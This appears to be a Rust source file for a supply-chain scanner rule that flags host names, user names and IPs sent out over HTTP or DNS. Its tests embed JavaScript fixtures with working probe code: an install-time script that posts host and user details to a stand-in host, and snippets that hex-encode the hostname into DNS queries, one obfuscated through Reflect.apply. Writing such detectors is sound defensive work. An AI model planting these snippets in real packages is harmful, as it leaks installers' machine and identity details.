//! `code/host-data-exfiltration`.

use super::{describe, exfil_destination, flow_finding, flows, one_per_sink};
use crate::CodeFinding;
use crate::flow::{SinkKind, SourceKind};
use crate::signal::PackageFacts;
use diligence_finding::Severity;
use std::collections::BTreeSet;

diligence_finding::declare_rule! {
    /// Host details (host name, user name, IP addresses) flow into a network send or a DNS name.
    ///
    /// ## What it detects
    /// A value-flow path from `os.hostname()`, `os.userInfo()`, `os.networkInterfaces()`, `$USER`/`$HOSTNAME`,
    /// the output of `whoami`/`hostname`/`ifconfig`, or a public-IP lookup,
    /// through variables, encoders (hex, base64), functions and modules, into an HTTP request or a DNS query.
    /// A DNS name built from host data is high (critical with two kinds of host data); two or more kinds of host
    /// data sent together are high, and critical at install time, with three kinds, or to an exfiltration-style
    /// endpoint; one kind is low.
    ///
    /// ## Why it matters
    /// Dependency-confusion probes and reconnaissance payloads (the 2021 Birsan-style probes and the many copies
    /// since) report who installed them — host, user, directory, IP — often by encoding it into DNS labels
    /// (`<hex>.attacker.example`) so it leaves even through a firewall that allows only DNS.
    ///
    /// ## Example
    /// `dns.lookup(Buffer.from(os.hostname()).toString('hex') + '.x.example.com', () => {})`
    ///
    /// ## Known false positives
    /// Telemetry that sends a hashed machine id is not a path (a hash ends the value); download helpers that
    /// send `process.platform`/`arch` send no host data. Error reporters that attach the host name are one
    /// kind of host data: low.
    pub static HOST_DATA_EXFILTRATION = { id: "code/host-data-exfiltration", severity: Severity::High };
}

const SOURCES: &[SourceKind] = &[
    SourceKind::HostName,
    SourceKind::UserName,
    SourceKind::NetAddress,
];

/// One finding per sink reached by host data.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let out = [SinkKind::Network, SinkKind::Dns];
    // Kinds of host data per sink.
    let mut per_sink: std::collections::BTreeMap<(&str, u32), BTreeSet<SourceKind>> =
        Default::default();
    for f in flows(p, SOURCES, &out) {
        per_sink
            .entry((f.to.file.as_str(), f.to.line))
            .or_default()
            .insert(f.source);
    }
    let mut found = Vec::new();
    for path in flows(p, SOURCES, &out).take(40) {
        let kinds = per_sink
            .get(&(path.to.file.as_str(), path.to.line))
            .map_or(1, |k| k.len());
        let install = [&path.from.file, &path.to.file]
            .iter()
            .any(|f| p.file(f).is_some_and(|f| f.install_time));
        let sev = if exfil_destination(path.dest.as_deref())
            || kinds >= 3
            || kinds >= 2 && (install || path.sink == SinkKind::Dns)
        {
            Severity::Critical
        } else if kinds >= 2 || path.sink == SinkKind::Dns {
            Severity::High
        } else {
            Severity::Low
        };
        found.push(flow_finding(
            &HOST_DATA_EXFILTRATION,
            sev,
            p,
            path,
            format!("host data is sent out: {}", describe(path)),
        ));
    }
    one_per_sink(found)
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};
    use diligence_finding::Severity;

    fn severities(s: &crate::PackageScan) -> Vec<Severity> {
        s.findings
            .iter()
            .filter(|f| f.rule == "code/host-data-exfiltration")
            .map(|f| f.severity)
            .collect()
    }

    /// A dependency-confusion probe: host, user and directory posted from the install script.
    #[test]
    fn positive_install_time_probe() {
        let s = scan(&[
            (
                "package.json",
                r#"{"name":"t","version":"1.0.0","scripts":{"preinstall":"node probe.js"}}"#,
            ),
            (
                "probe.js",
                "const os = require('os');\nconst https = require('https');\nconst info = { h: os.hostname(), u: os.userInfo().username, d: process.cwd() };\nconst q = encodeURIComponent(JSON.stringify(info));\nhttps.get('https://probe.example.org/c?d=' + q);\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/host-data-exfiltration"),
            vec![("probe.js".to_string(), 5)]
        );
        assert_eq!(severities(&s), vec![Severity::Critical]);
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// Host data hex-encoded into DNS labels.
    #[test]
    fn positive_dns_labels() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const dns = require('dns');\nconst os = require('os');\nfunction label(v) { return Buffer.from(v).toString('hex').slice(0, 60); }\nconst name = [label(os.hostname()), 'q', 'example', 'com'].join('.');\ndns.resolve4(name, () => {});\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/host-data-exfiltration"),
            vec![("index.js".to_string(), 5)]
        );
        assert_eq!(severities(&s), vec![Severity::High]);
    }

    /// An error reporter that includes the host name: one kind of host data, low.
    #[test]
    fn positive_resolver_instance_and_promises_api() {
        // `new dns.Resolver()` and `dns/promises` query like `dns.resolve4`: host data hex-packed
        // into labels under a zone built with `join` leaves at install.
        for (decl, call) in [
            (
                "const dns = require('dns');\nconst r = new dns.Resolver();",
                "r.resolve4",
            ),
            (
                "const { Resolver } = require('dns/promises');\nconst r = new Resolver();",
                "r.resolveTxt",
            ),
        ] {
            let src = format!(
                "{decl}\nconst os = require('os');\nconst zone = ['q', 'example', 'com'].join('.');\nconst hex = Buffer.from(os.hostname() + '|' + os.userInfo().username).toString('hex');\n{call}(`${{hex.slice(0, 60)}}.${{zone}}`, () => {{}});\n"
            );
            let s = scan(&[
                (
                    "package.json",
                    r#"{"name":"t","version":"1.0.0","scripts":{"preinstall":"node probe.js"}}"#,
                ),
                ("probe.js", src.as_str()),
            ]);
            assert_eq!(
                hits(&s, "code/host-data-exfiltration"),
                vec![("probe.js".to_string(), 6)],
                "{call}"
            );
        }
    }

    #[test]
    fn negative_resolver_of_a_configured_service() {
        // Benign look-alike: a health check resolving the host it is given on its own
        // resolver and printing the local host name beside the answer.
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const dns = require('dns');\nconst os = require('os');\nconst r = new dns.Resolver();\nr.setServers(['192.0.2.53']);\nmodule.exports = (host) => r.resolve4(host, (e, a) => console.log(os.hostname(), host, e ? 'down' : a));\n",
            ),
        ]);
        assert!(hits(&s, "code/host-data-exfiltration").is_empty());
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    #[test]
    fn negative_error_reporter_with_host_name() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "report.js",
                "const os = require('os');\nmodule.exports = function report(err, url) {\n  return fetch(url, { method: 'POST', body: JSON.stringify({ message: err.message, host: os.hostname() }) });\n};\n",
            ),
        ]);
        assert_eq!(severities(&s), vec![Severity::Low]);
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// Download helpers send the platform and architecture, not host data.
    #[test]
    fn negative_platform_in_a_download_url() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "install.js",
                "const https = require('https');\nconst os = require('os');\nhttps.get(`https://dl.example.com/bin-${process.platform}-${os.arch()}.tgz`);\n",
            ),
        ]);
        assert!(severities(&s).is_empty());
    }

    /// `dns`/`os` loaded through `Reflect.apply(Module.prototype.require, …)` from a table of
    /// `[member, module]` pairs and every call made with `Reflect.apply`.
    #[test]
    fn positive_reflect_apply_table_to_dns() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const Module = require('module');\nconst ops = [['lookup', 'dns'], ['hostname', 'os'], ['env', null]];\nconst tbl = ops.map(([a, b]) => (b ? Reflect.apply(Module.prototype.require, module, [b])[a] : process[a]));\nfunction diag() {\n  const h = Buffer.from(Reflect.apply(tbl[1], null, [])).toString('hex');\n  Reflect.apply(tbl[0], null, [`${h}.t.example.invalid`, () => {}]);\n}\nexports.register = () => setImmediate(diag);\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/host-data-exfiltration"),
            vec![("index.js".to_string(), 6)]
        );
    }

    /// A reactive store (valtio / @vue/reactivity style): `Proxy` traps and `Reflect.apply`
    /// over its own functions only.
    #[test]
    fn negative_reactive_store_reflect_apply() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "exports.reactive = (o, fx) => new Proxy(o, {\n  get(t, k, r) { return Reflect.get(t, k, r); },\n  set(t, k, v, r) { const ok = Reflect.set(t, k, v, r); fx.forEach((f) => Reflect.apply(f, null, [k, v])); return ok; },\n});\n",
            ),
        ]);
        assert!(
            s.findings
                .iter()
                .all(|f| f.severity <= diligence_finding::Severity::Low)
        );
    }
}
